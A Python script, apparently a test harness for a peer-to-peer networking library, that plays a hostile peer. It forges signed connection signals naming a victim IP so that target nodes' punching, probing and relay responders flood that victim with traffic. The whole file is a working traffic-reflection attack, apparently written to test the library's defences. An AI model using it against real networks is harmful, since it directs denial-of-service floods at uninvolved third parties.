"""Strangers who name a victim: ``python hostile_peer.py``, a JSON object on standard input.

``{"broker": url, "target": address, "pause_s": s, "calls": [{"victim", "strategy", "signer"}, …]}``.
Each call is one signal of a stranger's, whose signed address is the victim's, to the target's inbox. Calls
of the same ``signer`` come from one node key. It prints a line when all are out.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
import time
from typing import Any

from warpgate.identity import Identity
from warpgate.net.constants import EXT_BIND, IP4, NATType
from warpgate.plugin import new_plugin_id
from warpgate.protocol.codec import encode_body
from warpgate.protocol.envelope import seal_signal
from warpgate.protocol.peer_address import Endpoint, InterfaceRecord, pack_address, parse_address
from warpgate.protocol.proto_msg import ConMsg
from warpgate.server_urls import parse_broker
from warpgate.signalling.broker_policy import inbox_topic
from warpgate.signalling.mqtt import open_session
from warpgate_plugin_punch.common.facts import SideFacts
from warpgate_plugin_punch.random_probe.messages import SideNumbers, SprayOffer
from warpgate_plugin_punch.tcp_punch.messages import TcpOffer
from warpgate_plugin_punch.udp_punch.messages import Punch
from warpgate_plugin_turn.messages import TurnOffer

PORT = 7000
HARD = SideFacts(mapping="apd", filtering="apd", kind="random", low=1024, high=65535)
EASY = SideFacts(mapping="ei", filtering="apd", kind="preserving")


def message(strategy: str, victim: str) -> ConMsg:
    """Return the signal that makes a strategy's responder send the most to the victim."""
    if strategy == "tcp_punch":
        return TcpOffer(
            payload={"ip": victim, "ports": list(range(PORT, PORT + 16)), "facts": EASY}
        )
    if strategy == "udp_punch":
        ends = [(victim, PORT + n) for n in range(4)]
        return Punch(payload={"endpoints": ends, "facts": EASY})
    if strategy == "random_probe":
        side = SideNumbers(
            facts=HARD, ip=victim, port=PORT, low=1024, high=65535, sockets=1024, packets=1400
        )
        return SprayOffer(payload={"side": side, "key": os.urandom(32)})
    if strategy == "turn":
        return TurnOffer(
            payload={
                "relay_ip": victim,
                "relay_port": PORT,
                "stun_ip": victim,
                "stun_port": PORT + 1,
                "stream_ip": victim,
                "stream_port": PORT + 2,
                "mapped": [victim],
                "knock": os.urandom(16),
                "lets": [victim],
            }
        )
    return ConMsg()


def address(signer: Identity, victim: str) -> bytes:
    """Return a signed address whose every endpoint is the victim's."""
    end = Endpoint(IP4, victim, PORT, victim, PORT, int(NATType.OPEN), 1)
    return pack_address(
        signer,
        machine=os.urandom(32),
        sequence=1,
        brokers=(),
        interfaces=[InterfaceRecord(1, (end,))],
    ).raw


def envelope(signer: Identity, target: Any, call: dict[str, Any]) -> bytes:
    """Return one signal."""
    msg = message(call["strategy"], call["victim"])
    msg.meta.plugin_name, msg.meta.pipe_id = call["strategy"], new_plugin_id()
    msg.meta.af, msg.meta.route_type = IP4, EXT_BIND
    msg.meta.src_buf = address(signer, call["victim"])
    msg.routing.af, msg.routing.dest_buf = IP4, target.raw
    name = type(msg).__name__
    return seal_signal(
        signer,
        target.key,
        target.exchange_key,
        wire_name=name if name == "ConMsg" else f"{call['strategy']}.{name}",
        body=encode_body(msg),
        sent_ms=int(time.time() * 1000),
        ttl_s=20,
        msg_id=os.urandom(16),
    )


async def main() -> None:
    """Send the calls."""
    order = json.loads(sys.stdin.readline())
    target = parse_address(order["target"])
    signers: dict[int, Identity] = {}
    session = await open_session(
        parse_broker(order["broker"]),
        version=5,
        on_message=lambda *_: None,
        permit=lambda _ip: True,
    )
    for call in order["calls"]:
        signer = signers.setdefault(call["signer"], Identity.generate())
        await session.publish(inbox_topic(target.key), envelope(signer, target, call))
        await asyncio.sleep(order["pause_s"])
    await session.close()
    print("sent", flush=True)


asyncio.run(main())
